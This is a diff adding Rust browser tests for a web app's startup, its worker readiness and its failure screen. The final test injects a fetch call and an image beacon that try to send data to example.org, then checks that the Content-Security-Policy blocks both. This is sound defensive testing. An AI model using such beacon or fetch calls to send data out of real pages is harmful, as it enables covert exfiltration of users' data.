@@ -1,0 +1,57 @@
+//! From an address to a page that works.
+
+use std::time::Duration;
+
+use crate::browser::{Browser, in_browser};
+
+#[test]
+fn page_opens_below_any_path_and_its_worker_gets_ready() {
+    in_browser(async |page: &Browser| {
+        page.open("").await;
+        page.wait_for("worker ready").await;
+        page.screenshot("opening").await;
+    });
+}
+
+#[test]
+fn nothing_is_requested_once_the_worker_is_ready() {
+    in_browser(async |page: &Browser| {
+        page.open("").await;
+        page.wait_for("worker ready").await;
+        let loaded = page.requests();
+        page.wait(Duration::from_millis(500)).await;
+        assert_eq!(page.requests(), loaded);
+    });
+}
+
+#[test]
+fn page_that_cannot_start_says_so_and_offers_to_reload() {
+    in_browser(async |page: &Browser| {
+        page.break_files("_bg.wasm");
+        page.open("").await;
+        page.wait_for("Mixlaw could not start").await;
+        page.screenshot("cannot-start").await;
+        assert!(!page.take_console().await.is_empty());
+        page.mend_files();
+        page.click("#boot-status button").await;
+        page.wait_for("worker ready").await;
+    });
+}
+
+#[test]
+fn the_page_may_not_send_anything_anywhere() {
+    in_browser(async |page: &Browser| {
+        page.open("").await;
+        page.wait_for("worker ready").await;
+        page.run(
+            "fetch('http://example.org/?data').catch(() => {}); new Image().src = 'http://example.org/?data'",
+            &[],
+        )
+        .await;
+        page.wait(Duration::from_millis(500)).await;
+        let console = page.take_console().await;
+        for directive in ["connect-src 'self'", "img-src 'self'"] {
+            assert!(console.iter().any(|message| message.contains(directive)), "{console:#?}");
+        }
+    });
+}
